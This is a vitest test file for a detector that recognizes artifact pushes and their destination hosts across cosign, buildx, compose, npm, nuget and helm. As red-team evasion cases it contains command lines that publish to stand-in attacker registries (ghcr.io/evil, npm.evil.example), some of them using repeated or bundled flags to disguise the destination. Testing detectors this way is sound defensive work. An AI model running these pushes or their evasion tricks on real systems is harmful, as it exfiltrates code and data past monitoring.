/**
 * Red-team review of the push-recognition changes (cosign, cloud builds, standalone compose/buildx): argv
 * shapes the tools accept that hid a push or named the wrong destination.
 */
import { describe, expect, it } from 'vitest';
import { type Recognition, recognizeProcess } from '../../../src/rules/index.js';

function recognize(binary: string, args: string): Recognition {
  return recognizeProcess({ binary: `/usr/bin/${binary}`, args, parentBinary: null, parentArgs: null }, () => false);
}

function pushOf(binary: string, args: string) {
  const r = recognize(binary, args);
  return r?.kind === 'push' ? { remote: r.remote, host: r.destinationHost, declaredIn: r.declaredIn } : r;
}

describe('push argv shapes found by review', () => {
  it("cosign's pflag short flags bundle and take attached values: `-ya k=v`, `-ak=v` are annotations", () => {
    for (const args of [
      'sign --key cosign.key -ya k=v ghcr.io/evil/x@sha256:0f',
      'sign --key cosign.key -ak=v ghcr.io/evil/x@sha256:0f',
      'sign -yak=v ghcr.io/evil/x@sha256:0f',
    ])
      expect(pushOf('cosign', args), args).toEqual({
        remote: 'ghcr.io/evil/x@sha256:0f',
        host: 'ghcr.io',
        declaredIn: null,
      });
    expect(recognize('cosign', 'sign --key cosign.key -y ghcr.io/acme/x@sha256:0f')?.kind).toBe('signer');
  });

  it('gcloud builds submit: a value flag before the source (`--dir`, global `--billing-project`) does not hide it', () => {
    for (const args of [
      'builds submit --dir gs://acme/sub /root',
      '--billing-project gs://x builds submit /root',
      '--flatten https://x --trace-token t --access-token-file /tmp/t --flags-file f.yaml builds submit /srv/data',
    ])
      expect(recognize('gcloud', args)?.kind, args).toBe('push');
  });

  it("the standalone buildx binary's `build --push` names its tag, not a compose file", () => {
    expect(pushOf('buildx', 'build --push -t ghcr.io/evil/x:1 .')).toEqual({
      remote: 'ghcr.io/evil/x:1',
      host: 'ghcr.io',
      declaredIn: null,
    });
    expect(pushOf('docker-buildx', 'b --cache-to type=registry,ref=quay.io/evil/c .')).toMatchObject({
      host: 'quay.io',
    });
    expect(pushOf('buildx', 'imagetools create -t ghcr.io/evil/x:1 ghcr.io/acme/app:1')).toMatchObject({
      host: 'ghcr.io',
    });
    expect(pushOf('buildx', 'bake --push')).toEqual({ remote: null, host: null, declaredIn: 'the bake file' });
    // compose has no `build -t`: a standalone compose build push is named by its compose file.
    expect(pushOf('docker-compose', 'build --push')).toEqual({
      remote: null,
      host: null,
      declaredIn: 'the compose file',
    });
    expect(recognize('docker-compose', 'bake --push')?.kind).not.toBe('push');
  });

  it('compose publish (and alpha publish) pushes the compose application, named by its REPOSITORY', () => {
    const expected = { remote: 'ghcr.io/evil/app:1', host: 'ghcr.io', declaredIn: null };
    for (const args of [
      'compose publish ghcr.io/evil/app:1',
      'compose -f compose.yaml publish --with-env -y ghcr.io/evil/app:1',
      'compose alpha publish --oci-version 1.1 ghcr.io/evil/app:1',
    ])
      expect(pushOf('docker', args), args).toEqual(expected);
    for (const args of ['publish --with-env ghcr.io/evil/app:1', '-p x alpha publish ghcr.io/evil/app:1'])
      expect(pushOf('docker-compose', args), args).toEqual(expected);
    // compose's `--dry-run` builds the artifact and pushes nothing.
    expect(recognize('docker', 'compose --dry-run publish ghcr.io/evil/app:1')?.kind).not.toBe('push');
    expect(recognize('docker-compose', '--dry-run publish ghcr.io/evil/app:1')?.kind).not.toBe('push');
  });
});

describe('a destination flag given twice (review of 5127526)', () => {
  // The parsers take the last (pflag, nopt, argparse); the first was read, an entry for it exempted the push.
  it('names no host when its occurrences disagree', () => {
    expect(
      pushOf('npm', 'publish --registry https://registry.npmjs.org/ --registry https://npm.evil.example/'),
    ).toEqual({ remote: null, host: null, declaredIn: null });
    expect(pushOf('npm', 'publish --registry https://npm.evil.example/ --registry https://npm.evil.example/')).toEqual({
      remote: null,
      host: 'npm.evil.example',
      declaredIn: null,
    });
  });

  it('is a folder feed only when every occurrence names a folder', () => {
    expect(recognize('dotnet', 'nuget push x.nupkg -s ./feed -s /srv/feed')).toBeNull();
    expect(recognize('dotnet', 'nuget push x.nupkg -s ./feed -s https://nuget.evil.example/v3/index.json')?.kind).toBe(
      'push',
    );
  });

  it("helm cm-push's repository is chartmuseum's URL or a name from helm's repositories, never a Docker Hub image", () => {
    // Evasion hunt, round 3: read as an image reference, both named registry-1.docker.io (argv), so the alert sent
    // responders to Docker Hub and taught the chartmuseum's address as Docker Hub's.
    expect(pushOf('helm', 'cm-push /tmp/c-0.1.0.tgz https://charts.evil.example')).toEqual({
      remote: 'https://charts.evil.example',
      host: 'charts.evil.example',
      declaredIn: null,
    });
    expect(pushOf('helm', 'cm-push ./chart/ chartmuseum')).toEqual({
      remote: 'chartmuseum',
      host: null,
      declaredIn: null,
    });
    expect(pushOf('helm', 'push /tmp/c-0.1.0.tgz oci://ghcr.io/evil/charts')).toMatchObject({ host: 'ghcr.io' });
  });

  it("helm cm-push's own value flags are no repository: a password after it is never the remote (review of 6f07be1)", () => {
    // cm-push takes -u/-p/--access-token/--version… (chartmuseum/helm-push's cobra flags), anywhere: read as
    // positionals, the last one was the remote, so the alert's remote was the password or the token.
    for (const args of [
      'cm-push ./chart/ chartmuseum -u ci -p s3cr3tpass',
      'cm-push ./chart/ chartmuseum --access-token tok123 --version 1.2.3',
      'cm-push -a 2.0 --auth-header X-Auth --context-path /c -t 60 ./chart/ chartmuseum --keyring /k.gpg',
    ])
      expect(pushOf('helm', args), args).toEqual({ remote: 'chartmuseum', host: null, declaredIn: null });
    expect(pushOf('helm', 'cm-push ./chart/ https://charts.acme.example --password s3cr3t -v 1.2.3')).toEqual({
      remote: 'https://charts.acme.example',
      host: 'charts.acme.example',
      declaredIn: null,
    });
  });
});
